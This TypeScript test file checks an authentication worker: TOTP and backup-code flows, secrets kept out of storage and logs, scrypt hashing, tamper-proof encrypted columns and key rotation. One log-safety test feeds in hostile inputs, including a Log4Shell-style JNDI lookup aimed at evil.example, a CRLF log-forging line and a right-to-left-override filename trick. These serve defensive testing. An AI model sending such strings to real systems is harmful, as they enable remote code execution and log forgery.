import { createExecutionContext, createScheduledController, waitOnExecutionContext } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { base64, base64urlnopad, hex } from "@scure/base";
import { describe, expect, it } from "vitest";
import worker from "../../src/index.ts";
import { createReadyAccount, fullToken, signInWith, verify } from "../support/accounts.ts";
import { advance } from "../support/clock.ts";
import { browserHeaders, cookieValue, pendingCookieName, sessionCookieName } from "../support/cookies.ts";
import { useFreshWorker } from "../support/fresh-worker.ts";
import { gated, mockOrigin, visit } from "../support/gate.ts";
import { collectLogLines } from "../support/log-lines.ts";
import { dumpDatabase, dumpKv, listEvents, listSessionRows, query, readUser } from "../support/rows.ts";
import { SensitiveData } from "../support/sensitive-data.ts";
import { type Answer, Client, code, environment, pendingToken, wrongCode } from "../support/worker.ts";

useFreshWorker();

const password = "tuna-melt parachute 91";

/** Every flow that there is, the wrong turns as well, through the API and through the pages. */
async function useEverything(book: SensitiveData): Promise<void> {
  const client = new Client();
  const ok = (answer: Answer, status = 200): Answer => {
    if (answer.status !== status) throw new Error(`${answer.status} ${answer.text}`);
    return answer;
  };
  const form = (path: string, fields: Record<string, string>, cookies: Record<string, string> = {}) =>
    client.call(path, {
      method: "POST",
      body: String(new URLSearchParams(fields)),
      headers: { "Content-Type": "application/x-www-form-urlencoded", ...browserHeaders(cookies) },
    });
  const nextCode = async (secret: string) => {
    advance(30);
    return book.noteCode(await code(secret));
  };

  book.note("password", password, "wrong-password-1848", "tiny-77", "password-of-nobody");
  book.note("password hash's salt-free form", encodeURIComponent(password));
  const newcomer = { username: "ada", password, email: "ada@example.com" };
  book.note("admin key", env.ADMIN_KEY);
  book.note("keyring", env.KEYRING, env.KEYRING.split(":")[1]);
  ok(await client.post("/v1/users", newcomer, { token: env.ADMIN_KEY }), 201);
  ok(await client.post("/v1/users", newcomer, { token: env.ADMIN_KEY }), 409);
  ok(await client.post("/v1/users", { username: "bob", password: "tiny-77" }, { token: env.ADMIN_KEY }), 422);
  book.note("wrong API key", "wrong-api-key-71");
  ok(await client.post("/v1/users", newcomer, { token: "wrong-api-key-71" }), 401);

  // People type their password into the wrong field, so an unknown name is as good as one.
  book.note("unknown name", "somebody-unknown-77", "typo-page-name-78");
  ok(await client.login({ username: "somebody-unknown-77", password: "password-of-nobody" }), 401);
  ok(await form("/sign-in", { username: "typo-page-name-78", password: "password-of-nobody" }), 401);
  ok(await client.login({ username: "ada", password: "wrong-password-1848" }), 401);

  const first = book.noteToken(ok(await client.login({ username: "ada", password })).json.session_token);
  const setup = ok(await client.post("/totp/setup", {}, { token: first }));
  const secret = book.noteSecret(setup.json.data.secret);
  book.note("provisioning URI", setup.json.data.provisioning_uri);
  book.note("QR code", setup.json.data.qr_code.slice(-200));
  const wrong = book.noteCode(await wrongCode(secret));
  ok(await client.post("/totp/enable", { code: wrong }, { token: first }), 401);
  ok(await client.post("/totp/enable", { code: "not a code 4711" }, { token: first }), 422);
  const enabled = ok(
    await client.post("/totp/enable", { code: await nextCode(secret), secret }, { token: first }),
  );
  const backupCodes: string[] = enabled.json.data.backup_codes;
  await book.noteBackupCodes(backupCodes);

  const pending = book.noteToken(ok(await client.login({ username: "ada", password })).json.session_token);
  ok(await verify(pending, wrong), 401);
  const text = await nextCode(secret);
  const full = book.noteToken(ok(await verify(pending, text)).json.session_token);
  const second = book.noteToken(ok(await client.login({ username: "ada", password })).json.session_token);
  ok(await verify(second, text), 401);
  ok(await verify(second, "ZZZZ-ZZZZ"), 401);
  book.noteToken(ok(await verify(second, backupCodes[0])).json.session_token);

  for (const path of ["/totp", "/session", "/sessions"]) ok(await client.call(path, { token: full }));
  const stepped = ok(await client.post("/step-up", { code: await nextCode(secret) }, { token: full }));
  const token = book.noteToken(stepped.json.session_token);
  const fresh = ok(await client.post("/backup-codes", { code: await nextCode(secret) }, { token }));
  await book.noteBackupCodes(fresh.json.data.backup_codes);

  const visitor = ok(await form("/sign-in", { username: "ada", password }), 303);
  const pendingCookie = book.noteToken(cookieValue(visitor, pendingCookieName) ?? "");
  const entryPoint = await form(
    "/second-factor",
    { code: await nextCode(secret) },
    { [pendingCookieName]: pendingCookie },
  );
  const cookie = book.noteToken(cookieValue(ok(entryPoint, 303), sessionCookieName) ?? "");
  const origin = mockOrigin();
  const passed = await visit(gated(), "/private?token=in-the-query-9182", { session: cookie });
  if (passed.status !== 200) throw new Error(`The gate: ${passed.status}`);
  book.note("assertion", origin.only().headers.get("X-Sallyport-Assertion") ?? undefined);
  book.note("query of a request", "in-the-query-9182");

  const body = { code: await nextCode(secret), password: "wrong-password-1848" };
  ok(await client.post("/totp/disable", body, { token }), 401);
  ok(await client.post("/totp/disable", { ...body, password }, { token }));
  book.noteSecret(ok(await client.post("/totp/setup", {}, { token })).json.data.secret);
  ok(await client.call("/sessions", { method: "DELETE", token }));
  ok(await client.post("/logout", {}, { token }));
  ok(await client.post("/login", `{"username":"ada","password":"${password}"`), 400);
}

describe("what lies in the stores and in the log", () => {
  it("CR-01 LG-03 holds no secret, code, password, token or session secret in the clear, after all flows", async () => {
    const book = new SensitiveData();
    const lines = collectLogLines();
    await useEverything(book);
    // While a code is counted: the blocks are in KV.
    for (let i = 0; i < 11; i++) {
      await new Client().login({ username: "ada", password: "wrong-password-1848" });
    }
    const database = await dumpDatabase();
    const kv = await dumpKv();
    expect(Object.keys(database).toSorted()).toEqual(
      expect.arrayContaining(["audit_events", "sessions", "throttles", "users"]),
    );
    for (const table of ["audit_events", "throttles", "users"]) expect(database[table]).not.toEqual([]);
    expect(Object.keys(kv)).not.toEqual([]);
    expect(lines.length).toBeGreaterThan(10);
    expect(book.texts.length).toBeGreaterThan(150);

    const stores = { D1: JSON.stringify(database), KV: JSON.stringify(kv), log: lines.join("\n") };
    for (const [store, content] of Object.entries(stores)) {
      const found = book.findIn(content);
      expect([store, found]).toEqual([store, []]);
    }
  });

  it("CR-01 LG-03 holds no session secret while the sessions live", async () => {
    const account = await createReadyAccount();
    const book = new SensitiveData();
    const token = book.noteToken(await fullToken(account));
    book.noteToken(await pendingToken(account));
    book.noteSecret(account.secret);
    await book.noteBackupCodes(account.backupCodes);
    const setup = await new Client().post("/totp/setup", {}, { token });
    book.noteSecret(setup.json.data.secret);
    const database = await dumpDatabase();
    expect(database.sessions).toHaveLength(2);
    expect(database.users).toMatchObject([{ totp_pending_secret: expect.stringMatching(/^v1\./) }]);
    expect(book.findIn(JSON.stringify(database))).toEqual([]);
  });

  it("CR-01 keeps a password as scrypt with its parameters and a salt of its own", async () => {
    const client = new Client();
    for (const username of ["ada", "bob"]) {
      await client.post("/v1/users", { username, password }, { token: env.ADMIN_KEY });
    }
    const hashes = await query<{ password_hash: string }>("SELECT password_hash FROM users");
    for (const { password_hash } of hashes) {
      expect(password_hash).toMatch(/^\$scrypt\$ln=14,r=8,p=5\$[A-Za-z0-9+/]{22}\$[A-Za-z0-9+/]{43}$/);
    }
    expect(new Set(hashes.map(({ password_hash }) => password_hash)).size).toBe(2);
  });

  it("LG-04 is one JSON document a line, whatever a client calls itself", async () => {
    const lines = collectLogLines();
    const client = new Client();
    const hostile = [
      'x\r\n{"time":"2030-01-01T00:00:00Z","level":"info","event":"forged"}',
      "\u001b[31mred\u001b[0m",
      "line\u2028separator\u2029",
      '"}, {"event":"forged',
      "\u0000",
      "\u202egnp.exe",
      "\u0024{jndi:ldap://evil.example/a}",
    ];
    for (const name of hostile) {
      const headers = { "User-Agent": name.replace(/[\r\n\0\u0100-\uffff]/g, " ") };
      for (const answer of [
        await client.login({ username: name, password: "wrong password" }, { headers }),
        await client.post("/v1/users", { username: name }, { token: env.ADMIN_KEY, headers }),
        await client.post("/totp/verify", { session_token: name, code: "123456" }, { headers }),
        await client.post("/login", { [name]: name }, { headers }),
      ]) {
        expect(answer.status).toBeLessThan(500);
      }
      await visit(gated(), `/${encodeURIComponent(name)}`, { headers });
    }
    expect(lines.length).toBeGreaterThanOrEqual(3 * hostile.length);
    for (const line of lines) {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: it is what must not be there
      expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/);
      expect(JSON.parse(line)).toMatchObject({
        time: "2030-01-07T12:00:10.000Z",
        level: expect.stringMatching(/^(info|warn|error)$/),
        event: expect.stringMatching(/^[a-z_.]+$/),
      });
      expect(JSON.parse(line).event).not.toBe("forged");
    }
  });

  it("LG-02 is recorded with account, action, time, address and request id", async () => {
    const account = await createReadyAccount();
    const headers = { "User-Agent": "Firefox" };
    const options = { address: "203.0.113.7", headers };
    const token = await pendingToken(account, new Client(), options);
    const refused = await verify(token, await wrongCode(account.secret), options);
    const accepted = await verify(token, await code(account.secret), options);
    const events = await listEvents(
      "first_factor.accepted",
      "second_factor.refused",
      "second_factor.accepted",
    );
    expect(events.map(({ type }) => type)).toEqual([
      "first_factor.accepted",
      "second_factor.refused",
      "second_factor.accepted",
    ]);
    for (const event of events) {
      expect(event).toMatchObject({
        at: Date.now(),
        realm: "local",
        user_id: account.id,
        session_id: expect.any(String),
        client_address: "203.0.113.7",
        user_agent: "Firefox",
      });
    }
    expect(events[1]?.request_id).toBe(refused.json.request_id);
    expect(events[2]?.request_id).toBe(accepted.headers.get("X-Request-Id"));
  });
});

describe("what is sealed", () => {
  const columns = ["totp_secret", "backup_codes"] as const;

  async function expectUnreadable(
    answer: Answer,
    userId: string,
    column: string,
    why: string,
  ): Promise<void> {
    expect(answer).toMatchObject({ status: 503, json: { code: "store_unavailable" } });
    expect(answer.headers.get("Retry-After")).toMatch(/^[1-9]\d*$/);
    const events = await listEvents("integrity.failed");
    expect(events.at(-1)).toMatchObject({
      user_id: userId,
      detail: JSON.stringify({ column, why }),
      request_id: answer.json.request_id,
    });
  }

  it.each(columns)("CR-02 does not open in another account's row: %s", async (column) => {
    const ada = await createReadyAccount("ada");
    const bob = await createReadyAccount("bob");
    const { [column]: own } = await readUser(ada.id);
    await query(`UPDATE users SET ${column} = (SELECT ${column} FROM users WHERE id = ?)`, bob.id);
    // Bob's codes would be accepted for ada if the ciphertext of bob's row opened in ada's.
    const text = column === "totp_secret" ? await code(bob.secret) : bob.backupCodes[0];
    const answer = await signInWith(ada, text);
    await expectUnreadable(answer, ada.id, column, "not authentic");
    expect(await listSessionRows("full")).toEqual([]);
    const [pending] = await listSessionRows("pending");
    expect(pending?.attempts).toBe(0);

    await query(`UPDATE users SET ${column} = ? WHERE id = ?`, own, ada.id);
    expect((await signInWith(ada, await code(ada.secret))).status).toBe(200);
  });

  it("CR-02 does not open in another column: a secret that is being set up is no live one", async () => {
    const account = await createReadyAccount();
    const token = await fullToken(account);
    const { secret } = (await new Client().post("/totp/setup", {}, { token })).json.data;
    await query("UPDATE users SET totp_secret = totp_pending_secret");
    const answer = await signInWith(account, await code(secret));
    await expectUnreadable(answer, account.id, "totp_secret", "not authentic");
    expect(await listSessionRows("full")).toHaveLength(1);
  });

  it("CR-02 does not open in another column: a live secret is none that can be confirmed", async () => {
    const account = await createReadyAccount();
    const token = await fullToken(account);
    await query(
      "UPDATE users SET totp_pending_secret = totp_secret, totp_pending_expires_at = ?",
      Date.now() + 1000,
    );
    const answer = await new Client().post("/totp/enable", { code: await code(account.secret) }, { token });
    await expectUnreadable(answer, account.id, "totp_pending_secret", "not authentic");
  });

  it("CR-02 does not open with one bit changed, or cut, or when it is none", async () => {
    const account = await createReadyAccount();
    const { totp_secret: envelope } = await readUser(account.id);
    const [version, kid, body = ""] = (envelope ?? "").split(".");
    const bytes = base64urlnopad.decode(body);
    const flipped = [0, 11, 12, bytes.length - 1].map((at) => {
      const copy = bytes.slice();
      copy[at] = (copy[at] ?? 0) ^ 1;
      return base64urlnopad.encode(copy);
    });
    const cut = [bytes.slice(0, -1), bytes.slice(0, 12), bytes.slice(0, 5)].map((part) =>
      base64urlnopad.encode(part),
    );
    const [token] = [await pendingToken(account)];
    for (const damaged of [
      ...[...flipped, ...cut].map((text) => `${version}.${kid}.${text}`),
      `v2.${kid}.${body}`,
      `${kid}.${body}`,
      account.secret,
      "x",
    ]) {
      await query("UPDATE users SET totp_secret = ?", damaged);
      const answer = await verify(token ?? "", await code(account.secret));
      await expectUnreadable(answer, account.id, "totp_secret", "not authentic");
    }
    expect(await listSessionRows("full")).toEqual([]);
  });

  it("CR-03 has an IV of its own in every envelope that is ever written", async () => {
    const account = await createReadyAccount();
    const token = await fullToken(account);
    const seen: string[] = [];
    const collect = async () => {
      const { totp_secret, totp_pending_secret, backup_codes } = await readUser(account.id);
      for (const envelope of [totp_secret, totp_pending_secret, backup_codes]) {
        if (envelope !== null) seen.push(envelope);
      }
    };
    for (let i = 0; i < 200; i++) {
      // An account may not begin as many enrolments in a while as this takes.
      await query("DELETE FROM throttles");
      await new Client().post("/totp/setup", {}, { token });
      await collect();
    }
    for (const text of account.backupCodes) {
      await new Client().post("/step-up", { code: text }, { token });
      await collect();
    }
    const envelopes = [...new Set(seen)];
    expect(envelopes.length).toBeGreaterThan(200);
    const ivs = envelopes.map((envelope) => {
      const body = base64urlnopad.decode(envelope.split(".")[2] ?? "");
      return hex.encode(body.slice(0, 12));
    });
    expect(new Set(ivs).size).toBe(envelopes.length);
  });
});

describe("a new key in front of the old one", () => {
  const newKey = `k-new:${base64.encode(crypto.getRandomValues(new Uint8Array(32)))}`;
  const both = () => new Client(environment({ KEYRING: `${newKey},${env.KEYRING}` }));
  const newOnly = () => new Client(environment({ KEYRING: newKey }));
  const keyOf = (envelope: string | null) => envelope?.split(".")[1];
  const keyOfToken = (token: string) => {
    const [header = ""] = token.replace(/^pending_/, "").split(".");
    return JSON.parse(new TextDecoder().decode(base64urlnopad.decode(header))).kid;
  };
  const oldKid = env.KEYRING.split(":")[0];

  it("CR-04 opens what the old one sealed, and believes the tokens that it signed", async () => {
    const account = await createReadyAccount();
    const full = await fullToken(account);
    const pending = await pendingToken(account);
    expect([keyOfToken(full), keyOfToken(pending)]).toEqual([oldKid, oldKid]);

    const session = await both().call("/session", { token: full });
    expect(session.json.data.user.username).toBe("ada");
    const verified = await verify(pending, await code(account.secret), {}, both());
    expect(verified.json.data).toEqual({ method: "totp", backup_codes_remaining: 10 });
    expect(keyOfToken(verified.json.session_token)).toBe("k-new");
    const signedIn = await verify(await pendingToken(account, both()), account.backupCodes[0], {}, both());
    expect(signedIn.status).toBe(200);
    mockOrigin();
    const bindings = gated([], { KEYRING: `${newKey},${env.KEYRING}` });
    expect((await visit(bindings, "/", { session: full })).status).toBe(200);
  });

  it("CR-04 seals whatever is written from then on", async () => {
    const account = await createReadyAccount();
    const token = await fullToken(account);
    expect(keyOf((await readUser(account.id)).backup_codes)).toBe(oldKid);
    await both().post("/step-up", { code: account.backupCodes[0] }, { token });
    const setup = await both().post("/totp/setup", {}, { token });
    const row = await readUser(account.id);
    expect([row.totp_secret, row.totp_pending_secret, row.backup_codes].map(keyOf)).toEqual([
      oldKid,
      "k-new",
      "k-new",
    ]);
    await both().post("/totp/enable", { code: await code(setup.json.data.secret) }, { token });
    expect(keyOf((await readUser(account.id)).totp_secret)).toBe("k-new");
  });

  it("CR-04 that stands alone too early makes a 503 of what it can't open, and an event, not a 500", async () => {
    const account = await createReadyAccount();
    const full = await fullToken(account);
    expect((await newOnly().call("/session", { token: full })).status).toBe(401);

    const login = await newOnly().login(account);
    expect(login.json.status).toBe("totp_required");
    const token = login.json.session_token;
    for (const text of [
      await code(account.secret),
      await wrongCode(account.secret),
      account.backupCodes[0],
    ]) {
      const answer = await verify(token, text, {}, newOnly());
      expect(answer).toMatchObject({ status: 503, json: { code: "store_unavailable" } });
    }
    const why = `key "${oldKid}" is not in KEYRING`;
    const details = (await listEvents("integrity.failed")).map(({ detail }) => JSON.parse(detail ?? ""));
    expect(details).toEqual([
      { column: "totp_secret", why },
      { column: "totp_secret", why },
      { column: "backup_codes", why },
    ]);
    // An operator's mistake costs the account nothing, and is undone by undoing it.
    expect((await readUser(account.id)).second_factor_failures).toBe(0);
    expect((await verify(token, await code(account.secret), {}, both())).status).toBe(200);
  });

  it("CR-04 may stand alone when the hourly job has sealed everything anew", async () => {
    const account = await createReadyAccount();
    const context = createExecutionContext();
    const scheduled = worker.scheduled as unknown as (
      event: ScheduledController,
      bindings: unknown,
      context: ExecutionContext,
    ) => Promise<void>;
    await scheduled(createScheduledController(), both().bindings, context);
    await waitOnExecutionContext(context);
    const row = await readUser(account.id);
    expect([row.totp_secret, row.backup_codes].map(keyOf)).toEqual(["k-new", "k-new"]);

    const token = await pendingToken(account, newOnly());
    expect((await verify(token, await code(account.secret), {}, newOnly())).status).toBe(200);
    const again = await pendingToken(account, newOnly());
    expect((await verify(again, account.backupCodes[0], {}, newOnly())).status).toBe(200);
  });
});
